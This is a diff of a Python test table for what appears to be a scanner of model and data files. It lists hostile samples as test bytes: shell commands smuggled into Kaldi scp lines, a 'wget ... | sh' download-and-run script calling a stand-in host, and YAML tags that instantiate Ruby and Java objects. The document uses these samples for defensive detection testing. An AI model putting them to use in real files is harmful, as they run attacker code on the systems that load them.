@@ -255,7 +255,7 @@ CASES: list[tuple[str, bytes, str, Any, str]] = [  # what it is, the bytes, the 
     ("a list of Kaldi's with a command", b"utt1 sh -c 'touch x' |\n", "feats.scp", DANGEROUS, "line 1 is a command"),
     ("a list of Kaldi's with a command behind a decoder", b"utt1 sox a.wav -t wav - ; touch x |\n", "wav.scp", DANGEROUS, "line 1 is a command"),
     ("a list of Kaldi's", b"utt1 data/f.ark:10\nutt2 flac -c -d -s a.flac |\nutt3 /usr/bin/sox a.wav -r 16k -t wav - | sox - b |\n", "wav.scp", NOTHING, "Kaldi"),
-    ("a script that downloads into a shell", b"#!/bin/sh\nwget -qO- https://x.example/a | sh\n", "model.run", DANGEROUS, "a script that runs what it downloads"),
+    ("a script that downloads into a shell", b"#!/bin/sh\nwget -qO- http://x.example/a | sh\n", "model.run", DANGEROUS, "a script that runs what it downloads"),
     ("YAML with an object of Ruby's", b"a: !ruby/object:Gem::Installer\n  i: x\n", "m.yaml", DANGEROUS, "another language"),
     ("YAML with an object of Java's", b"a: !!javax.script.ScriptEngineManager [x]\n", "m.yaml", DANGEROUS, "another language"),
     ("YAML with tags of a project's own", b"a: !mine [x]\nb: !ref <x>\n", "m.yaml", NOTHING, "YAML"),
